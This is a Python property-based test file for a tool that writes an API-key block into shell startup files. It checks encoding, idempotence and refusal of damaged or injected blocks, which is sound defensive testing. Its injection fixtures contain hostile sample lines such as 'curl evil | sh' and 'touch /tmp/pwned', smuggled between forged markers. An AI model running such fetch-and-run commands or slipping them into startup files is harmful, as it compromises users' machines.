"""Our marked block (wizard/block.py).

Properties on arbitrary startup-file content: only our marked block ever changes, applying twice
equals applying once, removing after applying gives the original back byte for byte, and the file
keeps its BOM, encoding and line endings. Then damaged blocks and the diff shown to the user.
"""

from __future__ import annotations

import codecs
import hashlib
import os
import re
from pathlib import Path

import pytest
from hypothesis import assume, example, given
from hypothesis import strategies as st

from wizard.block import BEGIN, END, find_blocks, make_block, remove_block, unified_diff, upsert_block
from wizard.errors import ExitCode, SetupError
from wizard.files import atomic_write, decode, encode, newline_of

# --- helpers: an independent reading of the format ---------------------------------------------

BOMS = (codecs.BOM_UTF8, codecs.BOM_UTF16_LE, codecs.BOM_UTF16_BE)
# Characters str.splitlines() treats as line breaks. A shell only breaks lines at LF.
SPLITLINES_BREAKS = "\n\r\x0b\x0c\x1c\x1d\x1e\x85\u2028\u2029"
KEY = "sk-0123456789abcdef0123456789abcdef"


def is_marker(line: str) -> bool:
    """A line (without its LF) is one of our markers: surrounding spaces, tabs and CRs allowed."""
    return line.strip(" \t\r") in (BEGIN, END)


def expected_body_lines(body: str) -> list[str]:
    """The body's lines as a shell sees them: broken at LF (a CR before it belongs to the break)."""
    lines = re.split(r"\r?\n", body)
    if lines[-1] == "":
        lines.pop()
    return lines


def block_body_lines(block: str) -> list[str]:
    """The lines between BEGIN and END of one block, each without its line ending."""
    lines = block.split("\n")
    if lines[-1] == "":
        lines.pop()
    crlf = lines[0].endswith("\r")
    inner = [ln[:-1] if crlf and ln.endswith("\r") else ln for ln in lines[1:-1]]
    if inner and inner[-1].startswith("# Written by dashscope-setup (checksum "):
        inner.pop()  # the checksum line every block written now ends with
    return inner


def only_block(text: str) -> tuple[int, int]:
    spans = find_blocks(text)
    assert len(spans) == 1, spans
    return spans[0]


def leftovers(directory: Path, *expected: str) -> set[str]:
    """Names in directory other than the expected ones (temp files left behind)."""
    return {p.name for p in directory.iterdir()} - set(expected)


# --- strategies --------------------------------------------------------------------------------

# Arbitrary text on one line: unicode, \r, form feeds, vertical tabs, NEL, U+2028… (no surrogates).
any_line = st.text(st.characters(exclude_characters="\n", exclude_categories=("Cs",)), max_size=24).filter(
    lambda s: not is_marker(s)
)

tricky_line = st.sampled_from(
    ["", "\r", "x\r", "\r\r", "a\rb", "\x0c", "a\x0cb", "\x0b", "\x85", "a\u2028b", " ", "\t", "é中文", "🔑"]
)

# Lines that only resemble our markers: extra text, other case, other whitespace, half a marker.
lookalike = st.sampled_from(
    [
        BEGIN + " extra",
        "x " + BEGIN,
        "#" + BEGIN,
        BEGIN.upper(),
        BEGIN.replace(" ", "  "),
        BEGIN[:-1],
        BEGIN + END,
        BEGIN + "\x0c",
        "\x0b" + BEGIN,
        "\u00a0" + BEGIN,
        BEGIN + "\u3000",
        BEGIN.replace(" ", "\r", 1),
        "# >>> dashscope-setup",
        "# >>> conda initialize >>>",
        END + " # trailing comment",
        "echo '" + END + "'",
        END.replace("<<<", ">>>", 1),
        "\x85" + END,
        END + "\u2028",
    ]
)
# The same without line-break characters of any kind, for use inside bodies.
body_lookalike = lookalike.filter(lambda s: not any(c in SPLITLINES_BREAKS for c in s))

# Foreign settings of the same variable, written by the user or by other tools.
foreign = st.sampled_from(
    [
        f"export DASHSCOPE_API_KEY={KEY}",
        f"export DASHSCOPE_API_KEY='{KEY}'",
        f"set -gx DASHSCOPE_API_KEY {KEY}",
        f"$env:DASHSCOPE_API_KEY = '{KEY}'",
        f'  export DASHSCOPE_API_KEY="{KEY}"  # mine',
    ]
)

# Bytes that are not valid UTF-8, kept as the surrogates decode() turns them into.
raw_line = st.binary(max_size=12).map(lambda b: b.replace(b"\n", b"").decode("utf-8", "surrogateescape"))

# Our markers as a user's editor may have left them: surrounding spaces, tabs, CRs.
pad = st.text(st.sampled_from(" \t\r"), max_size=3)
begin_line = st.builds(lambda a, b: a + BEGIN + b, pad, pad)
end_line = st.builds(lambda a, b: a + END + b, pad, pad)

file_line = st.one_of(any_line, tricky_line, lookalike, foreign)
blank_line = st.text(st.sampled_from(" \t\r"), max_size=2)
file_line_raw = st.one_of(any_line, tricky_line, lookalike, foreign, raw_line)


def old_blocks(line: st.SearchStrategy[str]) -> st.SearchStrategy[list[str]]:
    """An old copy of our block, complete, with an arbitrary body."""
    return st.builds(lambda b, body, e: [b, *body, e], begin_line, st.lists(line, max_size=4), end_line)


@st.composite
def rc_texts(draw: st.DrawFn, *, blocks: str = "any", raw: bool = True, endings: str = "any") -> str:
    """A startup file's text. blocks: none | one | some (1-3) | any (0-3).
    endings: any (LF, CRLF or mixed) | lf | crlf.

    Duplicates stand side by side, as two runs of an old, buggy tool leave them, at most blank
    lines between them: lines between two blocks make the file one we refuse (see split_texts)."""
    line = file_line_raw if raw else file_line
    chunks = [[ln] for ln in draw(st.lists(line, max_size=8))]
    n = {"none": 0, "one": 1}.get(blocks)
    if n is None:
        n = draw(st.integers(1 if blocks == "some" else 0, 3))
    at = draw(st.integers(0, len(chunks)))
    for i in range(n):
        gap = draw(st.lists(blank_line, max_size=2)) if i else []
        chunks.insert(at, [*draw(old_blocks(line)), *gap])
    lines = [ln for chunk in chunks for ln in chunk]
    mode = draw(st.sampled_from(["lf", "crlf", "mixed"])) if endings == "any" else endings
    if mode == "mixed":
        ends = draw(st.lists(st.sampled_from(["\n", "\r\n"]), min_size=len(lines), max_size=len(lines)))
    else:
        ends = ["\n" if mode == "lf" else "\r\n"] * len(lines)
    text = "".join(ln + e for ln, e in zip(lines, ends))
    if lines and not draw(st.booleans()):
        text = text[: -len(ends[-1])]  # no final newline
    return text


# The bodies we write: lines without line-break characters, separated by LF or CRLF.
body_line = st.one_of(
    st.text(st.characters(exclude_characters=SPLITLINES_BREAKS, exclude_categories=("Cs",)), max_size=30),
    foreign,
    body_lookalike,
).filter(lambda s: not is_marker(s))


@st.composite
def bodies(draw: st.DrawFn, line: st.SearchStrategy[str] = body_line) -> str:
    lines = draw(st.lists(line, max_size=5))
    sep = draw(st.sampled_from(["\n", "\r\n"]))
    body = sep.join(lines)
    if lines and draw(st.booleans()):
        body += sep
    return body


@st.composite
def encoded_files(draw: st.DrawFn, *, blocks: str) -> bytes:
    """Bytes of a startup file: plain UTF-8 with stray invalid bytes, UTF-8 with BOM, or UTF-16 LE with BOM."""
    kind = draw(st.sampled_from(["plain", "utf-8-bom", "utf-16-le-bom"]))
    if kind == "plain":
        data = draw(rc_texts(blocks=blocks, raw=True)).encode("utf-8", "surrogateescape")
        assume(not data.startswith(BOMS))
        return data
    if kind == "utf-8-bom":
        return codecs.BOM_UTF8 + draw(rc_texts(blocks=blocks, raw=False)).encode("utf-8")
    return codecs.BOM_UTF16_LE + draw(rc_texts(blocks=blocks, raw=True)).encode("utf-16-le", "surrogatepass")


# --- 1. properties: bytes ----------------------------------------------------------------------


@given(encoded_files(blocks="none"), bodies())
def test_bytes_remove_after_upsert_is_byte_identical_without_blocks(data: bytes, body: str) -> None:
    d = decode(data)
    assert encode(d, remove_block(upsert_block(d.text, body))) == data


@given(encoded_files(blocks="any"), bodies())
def test_bytes_upsert_keeps_bom_and_encoding(data: bytes, body: str) -> None:
    d = decode(data)
    out = encode(d, upsert_block(d.text, body))
    again = decode(out)
    assert (again.bom, again.encoding) == (d.bom, d.encoding)
    assert again.text == upsert_block(d.text, body)


# --- 1. properties: text -----------------------------------------------------------------------


@given(rc_texts(blocks="none"), bodies())
def test_remove_after_upsert_restores_text_without_blocks(text: str, body: str) -> None:
    assert remove_block(upsert_block(text, body)) == text


@given(rc_texts(blocks="none"))
def test_remove_is_identity_without_blocks(text: str) -> None:
    assert remove_block(text) == text


@given(rc_texts(blocks="any"), bodies())
def test_upsert_is_idempotent(text: str, body: str) -> None:
    once = upsert_block(text, body)
    assert upsert_block(once, body) == once


@given(rc_texts(blocks="any"), bodies())
def test_remove_is_idempotent(text: str, body: str) -> None:
    once = remove_block(upsert_block(text, body))
    assert remove_block(once) == once


@given(rc_texts(blocks="some"), bodies())
@example(f"a\n{BEGIN}\n{END}\n{BEGIN}\n{END}", "x")  # duplicate blocks, the last ending the file unterminated
def test_upsert_never_changes_text_outside_blocks(text: str, body: str) -> None:
    assert remove_block(upsert_block(text, body)) == remove_block(text)


@given(rc_texts(blocks="any"), bodies())
def test_upsert_leaves_exactly_one_block_with_the_new_body(text: str, body: str) -> None:
    out = upsert_block(text, body)
    start, end = only_block(out)
    assert block_body_lines(out[start:end]) == expected_body_lines(body)


@given(rc_texts(blocks="one"), bodies())
def test_upsert_replaces_a_block_in_place(text: str, body: str) -> None:
    start, end = only_block(text)
    out = upsert_block(text, body)
    new_start, new_end = only_block(out)
    assert new_start == start
    assert out[:new_start] == text[:start]
    assert out[new_end:] == text[end:]


@given(rc_texts(blocks="some"), bodies())
def test_upsert_keeps_text_before_the_first_block(text: str, body: str) -> None:
    start, _ = find_blocks(text)[0]
    out = upsert_block(text, body)
    assert only_block(out)[0] == start
    assert out[:start] == text[:start]


@given(rc_texts(blocks="none"), bodies(), bodies())
def test_changing_the_body_keeps_the_blocks_position(text: str, body1: str, body2: str) -> None:
    first = upsert_block(text, body1)
    start, end = only_block(first)
    second = upsert_block(first, body2)
    new_start, new_end = only_block(second)
    assert second[:new_start] == first[:start]
    assert second[new_end:] == first[end:]


@given(rc_texts(blocks="none"), bodies())
def test_upsert_without_a_block_only_appends(text: str, body: str) -> None:
    out = upsert_block(text, body)
    assert out.startswith(text)
    start, _ = only_block(out)
    assert start >= len(text)


@given(rc_texts(blocks="none", raw=True, endings="lf"), st.sampled_from(["\n", "\r\n"]))
def test_newline_of_a_uniform_file_is_its_line_ending(text: str, nl: str) -> None:
    # Build the file with `nl` from the LF version; a line ending in CR would look like CRLF.
    lines = text.split("\n")
    assume(len(lines) > 1 and not lines[0].endswith("\r"))
    assert newline_of(nl.join(lines)) == nl


@given(rc_texts(blocks="none", endings="lf"), st.sampled_from(["\n", "\r\n"]), bodies())
def test_inserted_block_uses_the_files_line_ending(text: str, nl: str, body: str) -> None:
    lines = [ln.rstrip("\r") for ln in text.split("\n")]
    assume(len(lines) > 1)
    source = nl.join(lines)
    out = upsert_block(source, body)
    start, end = only_block(out)
    block_lines = out[start:end].split("\n")
    if block_lines[-1] == "":
        block_lines.pop()
    terminated = block_lines if out[start:end].endswith("\n") else block_lines[:-1]
    for ln in terminated:
        assert ln.endswith("\r") == (nl == "\r\n"), (ln, nl)
    if len(terminated) < len(block_lines):
        assert not block_lines[-1].endswith("\r")  # an unterminated END carries no stray CR


@given(rc_texts(blocks="any"), bodies(), bodies())
def test_upsert_then_upsert_other_body_equals_upsert_other_body(text: str, body1: str, body2: str) -> None:
    """What the file ends up as depends only on the last body written."""
    assert upsert_block(upsert_block(text, body1), body2) == upsert_block(text, body2)


# Bodies as anything a caller might hand over: every character but the markers as lines.
arbitrary_body_line = st.one_of(any_line, tricky_line, foreign, lookalike).filter(lambda s: not is_marker(s))


@given(rc_texts(blocks="any"), bodies(arbitrary_body_line))
@example("", "a\u2028" + BEGIN)  # splitlines() breaks at U+2028: a marker line appears inside our block
def test_upsert_writes_a_block_that_reads_back_with_arbitrary_body(text: str, body: str) -> None:
    out = upsert_block(text, body)
    start, end = only_block(out)
    assert block_body_lines(out[start:end]) == expected_body_lines(body)


# --- 1. properties: hostile bodies -------------------------------------------------------------

# Lines an attacker's value may carry into a body: our markers (padded as an editor may leave them),
# commands, blank lines, and whatever else a body holds.
hostile_line = st.one_of(
    begin_line,
    end_line,
    st.sampled_from(["touch /tmp/pwned", "curl evil | sh", "'", ""]),
    blank_line,
    body_line,
)


@st.composite
def hostile_bodies(draw: st.DrawFn) -> str:
    """A body with at least one of our marker lines in it."""
    lines = draw(st.lists(hostile_line, max_size=6))
    at = draw(st.integers(0, len(lines)))
    lines.insert(at, draw(st.one_of(begin_line, end_line)))
    return draw(st.sampled_from(["\n", "\r\n"])).join(lines)


def nonblank(text: str) -> list[str]:
    """The lines a shell could run something from."""
    return [ln.rstrip("\r") for ln in text.split("\n") if ln.strip(" \t\r")]


@given(rc_texts(blocks="any"), hostile_bodies())
def test_a_body_with_a_marker_line_is_never_written(text: str, body: str) -> None:
    with pytest.raises(ValueError, match="marker"):
        make_block(body, "\n")
    with pytest.raises((ValueError, SetupError)):
        upsert_block(text, body)


@given(rc_texts(blocks="none"), hostile_bodies(), st.sampled_from(["\n", "\r\n"]))
@example("a\n", f"'\n{END}\ntouch /tmp/pwned\n{BEGIN}\n'", "\n")
def test_no_line_from_inside_an_old_block_outlives_it(text: str, body: str, nl: str) -> None:
    """A file an older version wrote with a hostile body (the body put between the markers as it
    was): removing our block, or replacing it, either refuses or leaves only the user's lines."""
    clean = upsert_block(text, "PLACEHOLDER")
    start, end = only_block(clean)
    poisoned = clean[:start] + clean[start:end].replace("PLACEHOLDER", body) + clean[end:]
    try:
        removed = remove_block(poisoned)
    except SetupError as exc:
        assert exc.code == ExitCode.STORE
    else:
        assert nonblank(removed) == nonblank(text)
    try:
        replaced = upsert_block(poisoned, BODY)
    except SetupError as exc:
        assert exc.code == ExitCode.STORE
    else:
        start, end = only_block(replaced)
        assert nonblank(replaced[:start] + replaced[end:]) == nonblank(text)


# --- 2. units: the block format ----------------------------------------------------------------

BODY = f"export DASHSCOPE_API_KEY='{KEY}'"


def checksum_line(*lines: str) -> str:
    """Independent reading of the checksum line: sha256 of the body's lines joined by LF, 12 hex digits."""
    digest = hashlib.sha256("\n".join(lines).encode()).hexdigest()[:12]
    return f"# Written by dashscope-setup (checksum {digest}): add your own lines outside these markers."


def block(nl: str = "\n", body: str = BODY) -> str:
    return f"{BEGIN}{nl}{body}{nl}{checksum_line(body)}{nl}{END}{nl}"


def test_make_block_shape() -> None:
    ab = checksum_line("a", "b")
    assert make_block("a\nb\n", "\n") == f"{BEGIN}\na\nb\n{ab}\n{END}\n"
    assert make_block("a\nb", "\r\n") == f"{BEGIN}\r\na\r\nb\r\n{ab}\r\n{END}\r\n"
    assert make_block("", "\n") == f"{BEGIN}\n{checksum_line()}\n{END}\n"


def test_upsert_into_empty_file() -> None:
    assert upsert_block("", BODY) == block()
    assert remove_block(block()) == ""


def test_upsert_appends_after_a_final_newline() -> None:
    assert upsert_block("alias ll='ls -l'\n", BODY) == "alias ll='ls -l'\n" + block()


def test_upsert_appends_to_a_file_without_final_newline() -> None:
    out = upsert_block("alias ll='ls -l'", BODY)
    assert out == "alias ll='ls -l'\n" + block()[:-1]
    assert remove_block(out) == "alias ll='ls -l'"


def test_upsert_appends_to_a_crlf_file_without_final_newline() -> None:
    out = upsert_block("a\r\nb", BODY)
    assert out == "a\r\nb\r\n" + block("\r\n")[:-2]
    assert remove_block(out) == "a\r\nb"


def test_upsert_appends_crlf_block_to_crlf_file() -> None:
    assert upsert_block("a\r\n", BODY) == "a\r\n" + block("\r\n")


def test_a_file_without_any_newline_gets_lf() -> None:
    assert newline_of("") == "\n"
    assert newline_of("one line") == "\n"
    assert newline_of("\r\n") == "\r\n"
    assert newline_of("\nsecond\r\n") == "\n"


def test_upsert_replaces_in_place_between_other_lines() -> None:
    text = "before\n" + block(body="old") + "after\n"
    assert upsert_block(text, "new") == "before\n" + block(body="new") + "after\n"


def test_upsert_with_same_body_changes_nothing() -> None:
    text = "before\n" + block() + "after\n"
    assert upsert_block(text, BODY) == text


def test_upsert_keeps_an_existing_blocks_own_line_ending() -> None:
    text = "a\r\n" + block("\n", "old") + "b\r\n"
    assert upsert_block(text, "new") == "a\r\n" + block("\n", "new") + "b\r\n"


def test_upsert_collapses_duplicates_into_the_first() -> None:
    text = "a\n" + block(body="one") + "\n" + block(body="two") + "c\n"
    assert upsert_block(text, "new") == "a\n" + block(body="new") + "\nc\n"


def test_remove_deletes_every_block_and_keeps_the_rest() -> None:
    text = "a\n" + block(body="one") + " \n" + block(body="two") + "c\n"
    assert remove_block(text) == "a\n \nc\n"


def test_remove_keeps_a_foreign_key_line() -> None:
    text = f"export DASHSCOPE_API_KEY={KEY}\n" + block()
    assert remove_block(text) == f"export DASHSCOPE_API_KEY={KEY}\n"


@pytest.mark.parametrize(
    ("begin", "end"),
    [
        (f"  {BEGIN}  ", END),
        (f"\t{BEGIN}", f"{END}\t"),
        (f"{BEGIN}\r", f"{END}\r"),
        (f"{BEGIN} \r", f" \r{END}"),
        (f"\r{BEGIN}", END),
    ],
    ids=["spaces", "tabs", "cr", "space-cr", "leading-cr"],
)
def test_markers_with_surrounding_whitespace_are_recognised(begin: str, end: str) -> None:
    text = f"a\n{begin}\nold\n{end}\nb\n"
    assert find_blocks(text) == [(2, len(text) - 2)]
    assert remove_block(text) == "a\nb\n"
    # A BEGIN line that ends in CR reads as CRLF: the rewritten block keeps that line ending.
    nl = "\r\n" if begin.endswith("\r") else "\n"
    assert upsert_block(text, "new") == "a\n" + block(nl, "new") + "b\n"


@pytest.mark.parametrize(
    "line",
    [BEGIN + " extra", "x " + BEGIN, BEGIN + "\x0c", "\u00a0" + BEGIN, BEGIN.upper(), END + " # x"],
    ids=["suffix", "prefix", "formfeed", "nbsp", "upper", "end-comment"],
)
def test_marker_lookalikes_are_ordinary_lines(line: str) -> None:
    text = f"a\n{line}\nb\n"
    assert find_blocks(text) == []
    assert remove_block(text) == text
    assert upsert_block(text, BODY) == text + block()


def test_only_lf_ends_a_line() -> None:
    """A form feed or CR before a marker does not make it a line of its own (shells agree)."""
    for sep in ("\x0c", "\x0b", "\x85", "\u2028", "\r"):
        text = f"x{sep}{BEGIN}\n"
        assert find_blocks(text) == [], repr(sep)


DAMAGED = {
    "begin-without-end": f"a\n{BEGIN}\nbody\n",
    "begin-at-eof-without-end": f"a\n{BEGIN}",
    "end-without-begin": f"a\n{END}\nb\n",
    "end-before-begin": f"{END}\n{BEGIN}\n",
    "nested-begin": f"{BEGIN}\n{BEGIN}\nx\n{END}\n{END}\n",
    "second-begin-unclosed": f"{BEGIN}\nx\n{END}\n{BEGIN}\ny\n",
}


# Blocks with lines between them: a value holding our markers split one block in two around the
# attacker's line (inert inside the quotes, live once the blocks were cut). Refused, never cut.
SPLIT = {
    "injected-path": f"a\n{BEGIN}\nif [ -r '/k\n{END}\ntouch /tmp/pwned\n{BEGIN}\n' ]; then :; fi\n{END}\n",
    "injected-url": f"{BEGIN}\nexport U='https://h\n{END}\ncurl evil | sh\n{BEGIN}\nx'\n{END}",
    "crlf": f"{BEGIN}\r\nx\r\n{END}\r\nevil\r\n{BEGIN}\r\ny\r\n{END}\r\n",
    "user-line-between-copies": f"{BEGIN}\nx\n{END}\nalias ll='ls -l'\n{BEGIN}\nx\n{END}\n",
    "three-blocks": f"{BEGIN}\n{END}\n\n{BEGIN}\n{END}\n#\n{BEGIN}\n{END}\n",
}


@pytest.mark.parametrize("func", ["find_blocks", "upsert_block", "remove_block"])
@pytest.mark.parametrize(
    ("text", "msg_id"),
    [
        *((t, "err.damaged_block") for t in DAMAGED.values()),
        *((t, "err.split_block") for t in SPLIT.values()),
    ],
    ids=[*DAMAGED, *SPLIT],
)
def test_damaged_block_raises_store_error(func: str, text: str, msg_id: str) -> None:
    call = {
        "find_blocks": lambda: find_blocks(text),
        "upsert_block": lambda: upsert_block(text, BODY),
        "remove_block": lambda: remove_block(text),
    }[func]
    with pytest.raises(SetupError) as exc_info:
        call()
    assert exc_info.value.code == ExitCode.STORE
    assert exc_info.value.msg_id == msg_id


def test_split_block_error_names_the_first_line_between() -> None:
    with pytest.raises(SetupError) as exc_info:
        find_blocks(SPLIT["injected-path"])
    assert exc_info.value.params == {"line": 5}


@pytest.mark.parametrize("text", [*DAMAGED.values(), *SPLIT.values()], ids=[*DAMAGED, *SPLIT])
def test_damaged_block_leaves_the_file_untouched(home: Path, text: str) -> None:
    """The edit pipeline (read, decode, edit, encode, write) stops before writing anything."""
    rc = home / ".bashrc"
    rc.write_bytes(text.encode())
    os.utime(rc, (1_000_000, 1_000_000))
    with pytest.raises(SetupError):
        d = decode(rc.read_bytes())
        atomic_write(rc, encode(d, upsert_block(d.text, BODY)))
    assert rc.read_bytes() == text.encode()
    assert rc.stat().st_mtime == 1_000_000
    assert leftovers(home, ".bashrc") == set()


# --- 2. units: the diff shown to the user ------------------------------------------------------


def test_unified_diff_shape() -> None:
    before = "alias ll='ls -l'\n"
    after = upsert_block(before, "export A=1")
    diff = unified_diff(Path("/home/u/.bashrc"), before, after)
    assert diff.splitlines() == [
        "--- /home/u/.bashrc",
        "+++ /home/u/.bashrc",
        "@@ -1 +1,5 @@",
        " alias ll='ls -l'",
        f"+{BEGIN}",
        "+export A=1",
        f"+{checksum_line('export A=1')}",
        f"+{END}",
    ]
    assert diff.endswith("\n")


def test_unified_diff_of_removal() -> None:
    after = "a\n"
    before = upsert_block(after, "export A=1")
    diff = unified_diff(Path("rc"), before, after)
    assert [ln for ln in diff.splitlines() if ln.startswith("-") and not ln.startswith("---")] == [
        f"-{BEGIN}",
        "-export A=1",
        f"-{checksum_line('export A=1')}",
        f"-{END}",
    ]


def test_unified_diff_is_empty_when_unchanged() -> None:
    assert unified_diff(Path("rc"), "a\n", "a\n") == ""


def test_unified_diff_marks_a_missing_final_newline() -> None:
    """difflib joins '-a' and '+a' onto one line when the old file has no final newline."""
    diff = unified_diff(Path("rc"), "a", upsert_block("a", "export A=1"))
    lines = diff.split("\n")
    assert "-a" in lines
    assert "+a" in lines
    assert "\\ No newline at end of file" in lines


def test_unified_diff_keeps_a_line_with_a_form_feed_whole() -> None:
    """str.splitlines() breaks at \\f: the diff then shows one line of the file as two."""
    diff = unified_diff(Path("rc"), "a\x0cb\n", upsert_block("a\x0cb\n", "export A=1"))
    assert " a\x0cb" in diff.split("\n")


def test_block_with_u2028_in_body_reads_back() -> None:
    """make_block breaks the body with str.splitlines(): a U+2028 in a body line makes the next
    part a line of its own, and if that part is a marker our own block becomes damaged."""
    out = upsert_block("", "echo a\u2028" + BEGIN)
    assert find_blocks(out) == [(0, len(out))]


def test_block_with_form_feed_in_body_keeps_the_line_whole() -> None:
    out = upsert_block("", "a\x0cb")
    assert out == f"{BEGIN}\na\x0cb\n" + checksum_line("a\x0cb") + f"\n{END}\n"


# --- a block changed by hand ---------------------------------------------------------------------


@given(rc_texts(blocks="none"), bodies(), any_line.filter(lambda s: s.strip(" \t\r")), st.data())
def test_a_line_added_inside_our_block_stops_upsert_and_remove(
    text: str, body: str, added: str, data: st.DataObject
) -> None:
    """Replacing or removing the block would drop the user's line: both refuse, naming the line."""
    out = upsert_block(text, body)
    start, end = only_block(out)
    inner = out[start:end].split("\n")
    at = data.draw(st.integers(1, len(inner) - 2), label="insert before line")
    edited = out[:start] + "\n".join([*inner[:at], added, *inner[at:]]) + out[end:]
    line = out.count("\n", 0, start) + 1
    for attempt in (lambda: remove_block(edited), lambda: upsert_block(edited, body + "\nexport B=2")):
        with pytest.raises(SetupError) as err:
            attempt()
        assert (err.value.msg_id, err.value.params["line"]) == ("err.edited_block", line)


def test_a_changed_line_inside_our_block_is_refused_and_deleting_the_checksum_accepts_it() -> None:
    out = upsert_block("a\n", BODY)
    edited = out.replace(KEY, KEY[:-1] + "X")
    with pytest.raises(SetupError, match=r"err\.edited_block"):
        remove_block(edited)
    # The way out the message gives: delete the checksum line, and the block is ours as it is.
    unguarded = "".join(ln for ln in edited.splitlines(keepends=True) if "(checksum " not in ln)
    assert remove_block(unguarded) == "a\n"
    assert upsert_block(unguarded, BODY) == out


def test_blocks_without_a_checksum_line_from_older_versions_are_replaced() -> None:
    old = f"a\n{BEGIN}\nexport DASHSCOPE_API_KEY=old\n{END}\n"
    assert upsert_block(old, BODY) == "a\n" + block()
    assert remove_block(old) == "a\n"


def test_two_checksum_lines_are_an_edit() -> None:
    out = upsert_block("", BODY)
    doubled = out.replace(END, checksum_line(BODY) + "\n" + END)
    with pytest.raises(SetupError, match=r"err\.edited_block"):
        remove_block(doubled)


def test_a_body_line_that_looks_like_our_checksum_is_refused() -> None:
    with pytest.raises(ValueError, match="marker"):
        make_block(checksum_line("x"), "\n")


# --- markers that are someone else's text ------------------------------------------------------


def test_markers_on_lines_that_are_not_comments_are_text() -> None:
    """`comments` (from the shell's lexer) says which lines are comments from their start: markers
    elsewhere (a here-document, a string spanning lines) are the user's text and stay."""
    heredoc = f"cat > x <<'EOF'\n{BEGIN}\nin heredoc\n{END}\nEOF\n"
    real = make_block(BODY, "\n")
    text = heredoc + real
    comments = {6, 8, 9}  # the real block's markers and its checksum line
    with pytest.raises(SetupError, match=r"err\.split_block"):
        find_blocks(text)  # read line by line, the here-document's markers look like a block of ours
    assert find_blocks(text, comments) == [(len(heredoc), len(text))]
    assert remove_block(text, comments) == heredoc
    assert upsert_block(heredoc, BODY, comments=set()) == text
